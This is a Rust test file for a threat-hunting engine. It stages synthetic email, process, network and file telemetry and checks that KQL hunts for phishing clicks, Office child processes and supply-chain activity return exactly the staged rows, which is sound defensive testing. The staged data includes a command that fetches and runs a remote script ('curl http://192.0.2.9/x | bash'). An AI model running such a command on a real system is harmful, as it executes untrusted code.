//! The founding documents' hunts, run as they are printed. They lie beside
//! the checkout and are not part of it; where they are absent, our own
//! imitations of their form stand in.

use std::{fs, path::Path};

use lazaret_hunt::{HuntResult, Language};

use crate::staged::{HOUR, SECOND, Staged};

fn document(name: &str) -> Option<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/seeds");
    let entry = fs::read_dir(folder)
        .ok()?
        .flatten()
        .find(|entry| entry.file_name().to_string_lossy().starts_with(name))?;
    fs::read_to_string(entry.path()).ok()
}

/// The KQL fences of a document, in order.
fn fences(text: &str) -> Vec<String> {
    text.split("```kql\n")
        .skip(1)
        .filter_map(|rest| rest.split("\n```").next())
        .map(str::to_owned)
        .collect()
}

fn column(result: &HuntResult, name: &str) -> Vec<String> {
    let at = result
        .columns
        .iter()
        .position(|column| column.name == name)
        .unwrap();
    let mut values: Vec<String> = result
        .rows()
        .into_iter()
        .map(|row| {
            row[at]
                .as_str()
                .map_or_else(|| row[at].to_string(), str::to_owned)
        })
        .collect();
    values.sort();
    values
}

fn mail() -> Staged {
    let mut staged = Staged::new();
    for (id, direction, action) in [
        ("m1", "Inbound", "Delivered"),
        ("m2", "Outbound", "Delivered"),
        ("m3", "Inbound", "Blocked"),
    ] {
        staged.row(
            "EmailEvents",
            26 * HOUR,
            &[
                ("NetworkMessageId", id),
                ("Subject", "Invoice"),
                ("SenderFromAddress", "sender@example.net"),
                ("SenderFromDomain", "example.net"),
                ("RecipientEmailAddress", "ada@example.com"),
                ("DeliveryAction", action),
                ("EmailDirection", direction),
            ],
        );
        staged.row(
            "EmailUrlInfo",
            26 * HOUR,
            &[
                ("NetworkMessageId", id),
                ("Url", "https://login.example.net/a"),
                ("UrlDomain", "login.example.net"),
            ],
        );
        staged.row(
            "UrlClickEvents",
            25 * HOUR,
            &[
                ("NetworkMessageId", id),
                ("Url", "https://login.example.net/a"),
                ("AccountUpn", "ada@example.com"),
                ("ActionType", "ClickAllowed"),
                ("IPAddress", "192.0.2.7"),
            ],
        );
        staged.row(
            "EmailAttachmentInfo",
            26 * HOUR,
            &[
                ("NetworkMessageId", id),
                (
                    "RecipientEmailAddress",
                    if id == "m1" {
                        "ada@example.com"
                    } else {
                        "other@example.com"
                    },
                ),
                ("FileName", "invoice.docm"),
                ("SHA256", "00"),
            ],
        );
    }
    // Within a minute of the click, after more than a minute, and before it.
    staged.process(
        25 * HOUR - 20 * SECOND,
        "MSEDGE.EXE",
        "powershell.exe",
        "powershell -enc A",
    );
    staged.process(
        25 * HOUR - 90 * SECOND,
        "msedge.exe",
        "powershell.exe",
        "powershell late",
    );
    staged.process(
        25 * HOUR + 20 * SECOND,
        "msedge.exe",
        "powershell.exe",
        "powershell early",
    );
    staged.process(
        25 * HOUR - 20 * SECOND,
        "explorer.exe",
        "powershell.exe",
        "powershell by hand",
    );
    // Attachment, Office and installer.
    staged.process(24 * HOUR, "WINWORD.EXE", "cmd.exe", "cmd /c word");
    staged.process(24 * HOUR, "winword.exe", "splwow64.exe", "splwow64");
    staged.process(24 * HOUR, "setup.exe", "rundll32.exe", "rundll32 x");
    staged.process(
        9 * 24 * HOUR,
        "setup.exe",
        "rundll32.exe",
        "rundll32 too old",
    );
    staged.process(
        24 * HOUR,
        "mysetup.exe",
        "rundll32.exe",
        "rundll32 other name",
    );
    staged
}

#[test]
fn the_briefs_hunts_find_what_is_staged_and_nothing_else() {
    let Some(text) = document("000") else {
        eprintln!("the document is not beside the checkout; its imitations are tested");
        return;
    };
    let queries = fences(&text);
    assert_eq!(queries.len(), 4);
    let mut staged = mail();
    let hunt = staged.hunt();
    let run = |index: usize| hunt.run(Language::Kql, &queries[index]).unwrap();

    let clicks = run(0);
    assert_eq!(column(&clicks, "ProcessCommandLine"), ["powershell -enc A"]);
    assert_eq!(column(&clicks, "DelaySec"), ["20"]);
    assert!(clicks.warnings.iter().any(|warning| {
        warning
            .message
            .contains("`UrlClickEvents` has no column `AccountName`")
    }));
    assert_eq!(column(&run(1), "ProcessCommandLine"), ["cmd /c word"]);
    assert_eq!(column(&run(2), "ProcessCommandLine"), ["cmd /c word"]);
    assert_eq!(column(&run(3), "ProcessCommandLine"), ["rundll32 x"]);
}

fn supply_chain() -> Staged {
    let mut staged = Staged::new();
    staged.process(HOUR, "npm.cmd", "powershell.exe", "powershell -w hidden");
    staged.process(
        HOUR,
        "python3",
        "sh",
        "sh -c 'curl http://192.0.2.9/x | bash'",
    );
    // No term of the lists: a compiler, and names that only contain one.
    staged.process(HOUR, "npm", "cc1plus", "cc1plus a.cc");
    staged.process(HOUR, "pnpmx", "powershell.exe", "powershell");
    staged.process(30 * HOUR, "npm", "powershell.exe", "powershell yesterday");
    let network = |staged: &mut Staged, kind: &str, url: &str, parent: &str| {
        staged.row(
            "DeviceNetworkEvents",
            HOUR,
            &[
                ("DeviceName", "dev02.example.com"),
                ("InitiatingProcessFileName", parent),
                ("InitiatingProcessCommandLine", url),
                ("RemoteIPType", kind),
                ("RemoteUrl", url),
                ("RemoteIP", "192.0.2.10"),
                ("RemotePort", "443"),
            ],
        );
    };
    network(&mut staged, "Public", "collect.example.net", "node");
    network(&mut staged, "Public", "registry.npmjs.org", "node");
    network(&mut staged, "Private", "mirror.example.com", "node");
    network(&mut staged, "Public", "collect.example.net", "chrome.exe");
    let file = |staged: &mut Staged, path: &str, name: &str, action: &str| {
        staged.row(
            "DeviceFileEvents",
            HOUR,
            &[
                ("DeviceName", "dev03"),
                ("FolderPath", path),
                ("FileName", name),
                ("ActionType", action),
            ],
        );
    };
    file(
        &mut staged,
        "/src/.github/workflows/ci.yml",
        "ci.yml",
        "FileModified",
    );
    file(
        &mut staged,
        "/src/.github/workflows/ci.yml",
        "ci.yml",
        "FileDeleted",
    );
    file(&mut staged, "/src/notes.txt", "notes.txt", "FileModified");
    staged
}

#[test]
fn the_techniques_hunt_finds_its_three_arms_and_nothing_else() {
    let Some(text) = document("001") else {
        eprintln!("the document is not beside the checkout; its imitations are tested");
        return;
    };
    let query = text
        .split("\nkusto\n")
        .nth(1)
        .unwrap()
        .split("\nhigh severity")
        .next()
        .unwrap();
    let result = supply_chain().hunt().run(Language::Kql, query).unwrap();
    assert_eq!(
        column(&result, "DetectionArm"),
        [
            "CICDPipelineFileModified",
            "PackageManagerSpawnedSuspiciousChild",
            "PackageManagerSpawnedSuspiciousChild",
            "PackageManagerUnexpectedExternalConnection",
        ]
    );
    assert_eq!(
        column(&result, "ProcessCommandLine"),
        [
            "",
            "collect.example.net",
            "powershell -w hidden",
            "sh -c 'curl http://192.0.2.9/x | bash'"
        ]
    );
}

#[test]
fn hunts_of_the_same_form_find_what_is_staged() {
    let result = supply_chain()
        .hunt()
        .run(
            Language::Kql,
            r#"
            let Managers = dynamic(["npm", "npm.cmd", "node"]);
            let Spawned =
                DeviceProcessEvents
                | where Timestamp > ago(1d) and InitiatingProcessFileName has_any (Managers)
                | where FileName in~ ("PowerShell.exe")
                | extend Arm = "spawn"
                | project Timestamp, DeviceName, Arm;
            let Connected =
                DeviceNetworkEvents
                | where Timestamp > ago(1d) and RemoteIPType == "Public"
                | where InitiatingProcessFileName has_any (Managers)
                | where not(RemoteUrl has_any ("registry.npmjs.org"))
                | extend Arm = "connect"
                | project Timestamp, DeviceName, Arm;
            Spawned
            | union Connected
            | sort by Arm asc
            "#,
        )
        .unwrap();
    assert_eq!(column(&result, "Arm"), ["connect", "spawn"]);
}
